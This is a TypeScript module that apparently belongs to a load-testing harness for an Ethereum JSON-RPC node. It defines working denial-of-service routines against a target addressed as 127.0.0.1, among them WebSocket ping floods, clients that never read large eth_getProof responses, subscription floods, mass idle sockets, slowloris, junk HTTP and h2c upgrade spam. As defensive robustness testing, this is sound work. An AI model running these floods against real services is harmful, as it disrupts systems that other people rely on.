/** Attacks by connections: many, silent, slow, deaf, or no HTTP at all. */
import type { Socket } from "node:net";
import { randomBytes } from "node:crypto";
import type { WebSocket } from "ws";
import {
  type Attack,
  type AttackTarget,
  isOver,
  openSocket,
  openWebSocket,
  pause,
  repeat,
  requestText,
} from "./attack-target.ts";

const IDLE_MAX = 2_500;
const IDLE_WEB_SOCKETS_MAX = 1_600;
const ignore = (): void => undefined;

type Holder<One> = {
  readonly most: number;
  readonly open: (target: AttackTarget) => Promise<One>;
};

/** Opens them, lets each do something every now and then, and closes them at the end. */
async function hold<One extends { on(name: "error", listener: () => void): unknown }>(
  target: AttackTarget,
  { most, open }: Holder<One>,
  act: (one: One) => void,
  close: (one: One) => void,
): Promise<void> {
  const held: One[] = [];
  await repeat(target, { width: 16, most }, async () => {
    const one = await open(target);
    one.on("error", ignore);
    held.push(one);
  });
  while (!isOver(target)) {
    for (const one of held) act(one);
    await pause(target, 200);
  }
  for (const one of held) close(one);
}

function holdSockets(most: number, act: (socket: Socket) => void = ignore): Attack {
  return (target) => hold(target, { most, open: openSocket }, act, (socket) => socket.destroy());
}

function holdWebSockets(
  most: number,
  act: (socket: WebSocket) => void = ignore,
  prepare: (socket: WebSocket) => void = ignore,
): Attack {
  const open = async (target: AttackTarget): Promise<WebSocket> => {
    const socket = await openWebSocket(target);
    prepare(socket);
    return socket;
  };
  return (target) => hold(target, { most, open }, act, (socket) => socket.terminate());
}

/** What it sends is answered and not read. */
function deafen(socket: WebSocket): void {
  socket.pause();
}

function sendIfOpen(socket: WebSocket, text: string): void {
  if (socket.readyState === socket.OPEN && socket.bufferedAmount < 1_000_000) {
    socket.send(text, ignore);
  }
}

const LARGE_ANSWER = requestText("eth_getProof", [
  `0x${"22".repeat(20)}`,
  Array.from({ length: 1_024 }, (_, index) => `0x${index.toString(16).padStart(64, "0")}`),
  "latest",
]);
const LOGS = requestText("eth_subscribe", [
  "logs",
  {
    topics: [
      Array.from({ length: 500 }, (_, index) => `0x${index.toString(16).padStart(64, "0")}`),
    ],
  },
]);

export const CONNECTION_ATTACKS: Readonly<Record<string, Attack>> = {
  "ping-flood": holdWebSockets(
    20,
    (socket) => {
      for (let count = 0; count < 2_000 && socket.readyState === socket.OPEN; count++) {
        if (socket.bufferedAmount > 1_000_000) return;
        socket.ping(randomBytes(120), true, ignore);
      }
    },
    deafen,
  ),
  "sockets-that-do-not-read": holdWebSockets(
    60,
    (socket) => sendIfOpen(socket, LARGE_ANSWER),
    deafen,
  ),
  "http-that-does-not-read": holdSockets(200, (socket) => {
    socket.pause();
    if (socket.writableLength > 1_000_000) return;
    socket.write(
      `POST / HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\n` +
        `content-length: ${LARGE_ANSWER.length}\r\n\r\n${LARGE_ANSWER}`,
    );
  }),
  subscriptions: holdWebSockets(60, (socket) => {
    for (let count = 0; count < 20; count++) sendIfOpen(socket, LOGS);
  }),
  "idle-connections": holdSockets(IDLE_MAX),
  "idle-web-sockets": holdWebSockets(IDLE_WEB_SOCKETS_MAX),
  slowloris: holdSockets(IDLE_MAX, (socket) => {
    if (socket.bytesWritten === 0) socket.write("POST / HTTP/1.1\r\nhost: 127.0.0.1\r\n");
    else socket.write("x-a: b\r\n");
  }),
  "junk-http": (target) =>
    repeat(target, { width: 16, most: 100_000 }, async () => {
      const socket = await openSocket(target);
      socket.on("error", ignore);
      socket.end(randomBytes(2_000));
      socket.resume();
      await new Promise((resolve) => socket.once("close", resolve));
    }),
  h2c: (target) =>
    repeat(target, { width: 16, most: 100_000 }, async () => {
      const body = requestText("eth_blockNumber", []);
      const socket = await openSocket(target);
      socket.on("error", ignore);
      socket.end(
        "POST / HTTP/1.1\r\nhost: 127.0.0.1\r\nconnection: upgrade, http2-settings\r\n" +
          "upgrade: h2c\r\nhttp2-settings: AAMAAABkAAQAAP__\r\ncontent-type: application/json\r\n" +
          `content-length: ${body.length}\r\n\r\n${body}`,
      );
      socket.resume();
      await new Promise((resolve) => socket.once("close", resolve));
    }),
};
